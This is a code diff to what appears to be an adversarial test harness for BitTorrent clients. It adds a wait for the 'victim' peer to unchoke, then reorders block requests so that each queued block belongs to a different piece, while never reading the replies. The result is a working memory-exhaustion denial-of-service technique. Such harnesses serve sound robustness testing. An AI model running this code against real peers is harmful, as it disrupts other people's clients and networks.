@@ -276,10 +276,15 @@ async def request_and_never_read(
         hello = wire_handshake(info_hash) + m.encode_message(m.Interested())
         if not await _send(stream, hello, stats):
             return
+        with trio.move_on_after(30):  # read only until the victim unchokes us
+            await _wait_unchoke(stream, stats)
+        # One block of every piece before the next block of any: each queued block
+        # then belongs to a different piece (the worst case for a victim that keeps
+        # whole pieces alive for the blocks it has queued).
         blocks = [
             m.encode_message(m.Request(i, begin, min(16384, piece_length - begin)))
-            for i in range(pieces)
             for begin in range(0, piece_length, 16384)
+            for i in range(pieces)
         ]
         for _ in range(rounds):
             with trio.move_on_after(5) as scope:  # a full send buffer: the victim stopped
@@ -288,6 +293,21 @@ async def request_and_never_read(
                 stats.notes.append("victim stopped reading our requests or hung up")
                 return
             await trio.sleep(0.05)
+
+
+async def _wait_unchoke(stream: trio.SocketStream, stats: AttackStats) -> None:
+    decoder = m.FrameDecoder(max_length=1 << 20, max_request_length=1 << 17)
+    skip = 68  # the victim's BitTorrent handshake
+    while chunk := await stream.receive_some(65536):
+        stats.received += len(chunk)
+        cut = min(skip, len(chunk))
+        chunk, skip = chunk[cut:], skip - cut
+        if not chunk:
+            continue
+        decoder.receive_data(chunk)
+        if any(isinstance(msg, m.Unchoke) for msg in decoder):
+            stats.notes.append("unchoked")
+            return
 
 
 async def send_then_wait_close(
